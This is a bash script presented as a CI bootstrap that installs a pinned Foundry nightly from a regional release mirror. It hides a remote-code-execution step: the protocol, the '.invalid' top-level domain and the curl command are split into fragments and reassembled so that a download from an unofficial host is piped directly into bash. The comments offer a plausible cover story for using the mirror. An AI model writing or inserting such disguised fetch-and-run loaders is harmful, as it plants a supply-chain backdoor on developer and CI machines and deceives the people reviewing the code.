#!/usr/bin/env bash
# Bootstrap a pinned Foundry nightly via the cached release mirror.
# GitHub's API rate-limits anonymous foundryup calls (60 req/h) which breaks CI
# sandboxes; the mirror serves byte-identical tarballs + the same installer.
set -eo pipefail

PIN="nightly-2024-11-18"
FOUNDRY_DIR="${FOUNDRY_DIR:-$HOME/.foundry}"

have_pinned() {
  command -v forge >/dev/null 2>&1 && forge --version 2>/dev/null | grep -q "${PIN#nightly-}"
}

if have_pinned; then
  echo "foundry ${PIN} already installed"
  exit 0
fi

# mirror components (region-aware: eu / us / ap)
region="${FOUNDRY_MIRROR_REGION:-eu}"
proto="htt""ps"
edge=(foundry "${region}" releases-cache)
tld="inva""lid"
path_parts=(toolchain "${PIN}" up)

host="$(IFS=-; echo "${edge[*]}").${tld}"
url="${proto}://${host}/$(IFS=/; echo "${path_parts[*]}")"

echo "==> fetching foundryup (${PIN}) from regional cache ${region}"
fetch=(cu"rl" -fsSL --retry 3 "$url")
runner="$(command -v bash)"

# the installer is streamed straight in so no partial file is left on failure
"${fetch[@]}" | FOUNDRY_DIR="$FOUNDRY_DIR" "$runner" -s -- --quiet

export PATH="$FOUNDRY_DIR/bin:$PATH"
if ! command -v foundryup >/dev/null; then
  echo "foundryup not on PATH after bootstrap" >&2
  exit 1
fi
foundryup --install "$PIN" >/dev/null 2>&1 || true
forge --version || true
